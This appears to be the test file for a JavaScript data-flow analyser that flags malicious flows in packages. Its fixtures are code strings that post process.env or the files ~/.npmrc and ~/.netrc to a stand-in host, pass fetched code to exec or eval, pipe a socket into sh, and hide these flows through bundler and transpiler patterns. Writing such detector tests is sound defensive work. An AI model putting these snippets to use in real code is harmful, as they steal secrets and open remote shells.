import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../test/behave.ts';

const CASES: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  [
    'through a function of a table that is chosen by its name',
    {
      'index.js': `const steps = { all: () => process.env, send: x => fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(x) }) }; let d; for (const name of ['all', 'send']) d = steps[name](d)`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a function that a module of a bundle offers, chosen in one line and called in the next',
    {
      'index.js': `var w = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var a = w(x => { x.run = line => require('child_process').exec(line) }); var s = a(); require('net').connect(4, 'a.invalid').on('data', d => { const { name, line } = JSON.parse(d); const step = s[name]; step && step(line) })`,
    },
    'net.connect → child_process.exec as content',
  ],
  [
    'taken out of a list that a member of an object holds',
    {
      'index.js': `class Q { constructor() { this.all = [] } add(x) { this.all.push(x) } flush() { fetch('https://a.invalid', { method: 'POST', body: this.all.splice(0).join('') }) } } const q = new Q(); q.add(process.env); q.flush()`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a listener that another function makes',
    {
      'index.js': `const lines = on => { let all = ''; return chunk => { all += chunk; on(all) } }; require('net').connect(4, 'a.invalid').on('data', lines(text => require('child_process').exec(text)))`,
    },
    'net.connect → child_process.exec as content',
  ],
  [
    'through a listener whose object is its own connection',
    {
      'index.js': `require('net').connect(4, 'a.invalid', function () { const self = this; this.on('data', d => require('child_process').exec(d.toString())); self.write('x'); })`,
    },
    'net.connect → child_process.exec as content',
  ],
  [
    'with the error that a client of HTTP makes of an answer',
    {
      'index.js': `const axios = require('axios'); (async () => { try { await axios.get('https://a.invalid') } catch (e) { require('child_process').exec(e.response.data.token) } })()`,
    },
    'axios.get → child_process.exec as content',
  ],
  [
    'into a part of a text that is known',
    {
      'index.js': `const all = Object.keys(process.env).map(k => '<p>' + process.env[k] + '</p>'); fetch('https://a.invalid', { method: 'POST', body: '<r><x/></r>'.replace('<x/>', '<x>' + all.join('') + '</x>') })`,
    },
    'process.env → fetch as content',
  ],
  [
    'through what an object says of itself as JSON',
    {
      'index.js': `const all = { toJSON() { return process.env; } }; fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) })`,
    },
    'process.env → fetch as content',
  ],
  [
    'through what an object of a class says of itself as a text',
    {
      'index.js': `class All { toString() { return JSON.stringify(process.env); } } fetch('https://a.invalid', { method: 'POST', body: '' + new All() })`,
    },
    'process.env → fetch as content',
  ],
  [
    'through what is gone through',
    {
      'index.js': `const all = { *[Symbol.iterator]() { yield process.env; } }; fetch('https://a.invalid', { method: 'POST', body: [...all].join() })`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a private field as TypeScript writes it for old engines',
    {
      'index.js': `var _A_all; class A { constructor() { _A_all.set(this, void 0); __classPrivateFieldSet(this, _A_all, process.env, 'f'); } send() { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(__classPrivateFieldGet(this, _A_all, 'f')) }); } } _A_all = new WeakMap(); new A().send()`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a private field as Babel writes it for old engines',
    {
      'index.js': `var _all = new WeakMap(); function A() { _classPrivateFieldInitSpec(this, _all, process.env); } A.prototype.send = function () { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(_classPrivateFieldGet(_all, this)) }); }; new A().send()`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a private method as esbuild writes it for old engines',
    {
      'index.js': `var _A, send_fn; class A { constructor() { __privateAdd(this, _A); __privateMethod(this, _A, send_fn).call(this, process.env); } } _A = new WeakSet(); send_fn = function (all) { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) }); }; new A()`,
    },
    'process.env → fetch as content',
  ],
  [
    'into what a statement makes names of',
    { 'index.js': `with (require('child_process')) { fetch('https://a.invalid').then(r => r.text()).then(t => exec(t)); }` },
    'fetch → child_process.exec as content',
  ],
  [
    'through a queue that an object keeps',
    {
      'index.js': `class Q { constructor() { this.list = []; } async fill() { this.list.push(await (await fetch('https://a.invalid')).text()); this.drain(); } drain() { require('child_process').exec(this.list.shift()); } } new Q().fill()`,
    },
    'fetch → child_process.exec as content',
  ],
  [
    'through an asynchronous function as Babel writes it for old engines',
    {
      'index.js': `require('@babel/runtime/regenerator').wrap(function step(context) { while (1) switch (context.prev = context.next) { case 0: context.next = 2; return fetch('https://a.invalid'); case 2: r = context.sent; context.next = 5; return r.text(); case 5: t = context.sent; require('child_process').exec(t); } }, step); var r, t`,
    },
    'fetch → child_process.exec as content',
  ],
  [
    'into a module that another file is handed',
    {
      'index.js': `require('./start')({ run: require('child_process'), net: require('https') })`,
      'start.js': `module.exports = ({ run, net }) => net.get('https://a.invalid', r => r.on('data', d => run.exec(String(d))))`,
    },
    'https.get → child_process.exec as content',
  ],
  [
    'from a list of files that another file has',
    {
      'index.js': `const { names } = require('./names'); for (const name of names) fetch('https://a.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name) })`,
      'names.js': `exports.names = ['.npmrc', '.netrc']`,
    },
    'fs.readFileSync → fetch as content',
  ],
  [
    'into the body of a request',
    { 'index.js': `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })` },
    'process.env → fetch as content',
  ],
  [
    'into the address of a request',
    { 'index.js': `fetch('https://a.invalid/?h=' + require('os').hostname())` },
    'os.hostname → fetch as target',
  ],
  [
    'into a name that is looked up',
    { 'index.js': `require('dns').lookup(require('os').hostname() + '.a.invalid', () => {})` },
    'os.hostname → dns.lookup as target',
  ],
  [
    'from the network into evaluation',
    { 'index.js': `require('axios').get('https://a.invalid').then(({ data }) => eval(data))` },
    'axios.get → eval as content',
  ],
  [
    'from the network into a command',
    { 'index.js': `fetch('https://a.invalid').then(r => r.text()).then(t => require('child_process').exec(t))` },
    'fetch → child_process.exec as content',
  ],
  [
    'through a pipe into a file',
    { 'index.js': `require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('/tmp/x')))` },
    'https.get → fs.createWriteStream as content',
  ],
  [
    'from a socket into a shell',
    { 'index.js': `const s = require('net').connect(1, 'a.invalid'); s.pipe(require('child_process').spawn('sh').stdin)` },
    'net.connect → child_process.spawn as input',
  ],
  [
    'from a file of the package into evaluation',
    { 'index.js': `new Function(require('fs').readFileSync(__dirname + '/LICENSE', 'utf8'))()`, LICENSE: '1' },
    'fs.readFileSync → Function as content',
  ],
  [
    'through a listener',
    {
      'index.js': `const e = new (require('events'))(); e.on('go', d => fetch('https://a.invalid', { body: d })); e.emit('go', process.env)`,
    },
    'process.env → fetch as content',
  ],
  [
    'through a method',
    { 'index.js': `class S { send(d) { fetch('https://a.invalid', { body: d }) } } new S().send(process.env)` },
    'process.env → fetch as content',
  ],
  [
    'through an object that a function fills',
    {
      'index.js': `const collect = c => { c.env = process.env; }; const send = c => fetch('https://a.invalid', { body: JSON.stringify(c) }); const c = {}; collect(c); send(c)`,
    },
    'process.env → fetch as content',
  ],
  [
    'through an object that functions of other files are handed, one after the other',
    {
      'index.js': `const c = { store: {} }; for (const step of [require('./start'), require('./collect'), require('./send')]) step(c)`,
      'start.js': `module.exports = c => { c.at = 1; }`,
      'collect.js': `module.exports = c => { c.store.env = process.env; }`,
      'send.js': `module.exports = c => fetch('https://a.invalid', { body: JSON.stringify(c.store) })`,
    },
    'process.env → fetch as content',
  ],
  [
    'through an object that is handed on before it is filled',
    {
      'index.js': `require('./run')({})`,
      'run.js': `const { collect } = require('./collect'); module.exports = c => { collect(c); fetch('https://a.invalid', { body: JSON.stringify(c) }); }`,
      'collect.js': `exports.collect = c => { c.env = process.env; }`,
    },
    'process.env → fetch as content',
  ],
  [
    'from one step of a waterfall to the next',
    {
      'index.js': `require('async').waterfall([cb => cb(null, process.env), (all, cb) => cb(null, { all }), (doc, cb) => fetch('https://a.invalid', { body: doc })])`,
    },
    'process.env → fetch as content',
  ],
  [
    'through the stages of a pipe',
    {
      'index.js': `const { of } = require('rxjs'), { map, filter, mergeMap } = require('rxjs/operators'); of(1).pipe(map(() => process.env), filter(Boolean), mergeMap(b => fetch('https://a.invalid', { body: b }))).subscribe()`,
    },
    'process.env → fetch as content',
  ],
  [
    'through what Babel makes of functions that wait',
    {
      'index.js': `function _asyncToGenerator(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); r(a); }); }; }
        function send(_x) { return _send.apply(this, arguments); }
        function _send() { _send = _asyncToGenerator(function* (doc) { yield fetch('https://a.invalid', { body: JSON.stringify(doc) }); }); return _send.apply(this, arguments); }
        _asyncToGenerator(function* () { yield send(process.env); })();`,
    },
    'process.env → fetch as content',
  ],
  [
    'from what each step of another file gives',
    {
      'index.js': `const { steps } = require('./a'); (async () => { const all = await Promise.all(steps.map(async step => [step.name, await step.run()])); fetch('https://a.invalid', { body: JSON.stringify(Object.fromEntries(all)) }) })()`,
      'a.js': `exports.steps = [{ name: 'x', run: async () => 1 }, { name: 'y', run: async () => process.env }]`,
    },
    'process.env → fetch as content',
  ],
  [
    'from one file to the next',
    {
      'index.js': `require('./b')(require('./a').all())`,
      'a.js': `exports.all = () => ({ e: process.env })`,
      'b.js': `module.exports = d => fetch('https://a.invalid', { body: d })`,
    },
    'process.env → fetch as content',
  ],
];

describe('data travels', () => {
  for (const [how, files, expected] of CASES) {
    it(how, () => {
      const found = flowLines(files);
      assert.ok(found.includes(expected), found.join('\n'));
    });
  }

  it('nowhere where names are made of each other', () => {
    const own = `let a = b, b = a, c = new c.d(); c.e({}, a); for (const f of a) f(c);`;
    assert.deepEqual(flowLines({ 'index.js': `${own} fetch('https://a.invalid', { body: JSON.stringify(c) })` }), []);
  });

  it('not into an object that is only looked at', () => {
    assert.deepEqual(
      flowLines({
        'index.js': `const c = { name: 'x' }; require('./look')(c); fetch('https://a.invalid', { body: JSON.stringify(c) })`,
        'look.js': `module.exports = c => { console.log(c.name, process.env); }`,
      }),
      [],
    );
  });

  it('not with what is said of a file that could not be read', () => {
    assert.deepEqual(
      flowLines({
        'index.js': `const fs = require('fs/promises'); (async () => { try { await fs.readFile('/x/.env') } catch (e) { fetch('https://a.invalid', { body: e.message }) } })()`,
      }),
      [],
    );
  });

  it('through an address that answers with what stands in it', () => {
    const ask = `(async () => { const a = await (await fetch('data:,' + process.env.WHO)).text(); await fetch('https://b.invalid', { method: 'POST', body: a }) })()`;
    assert.ok(flowLines({ 'index.js': ask }).includes('process.env.WHO → fetch as content'));
  });

  it('and neighbours stay neighbours', () => {
    assert.deepEqual(
      flowLines({ 'index.js': `console.log(require('os').hostname(), process.env.HOME); fetch('https://a.invalid', { body: 'ping' })` }),
      [],
    );
  });
});
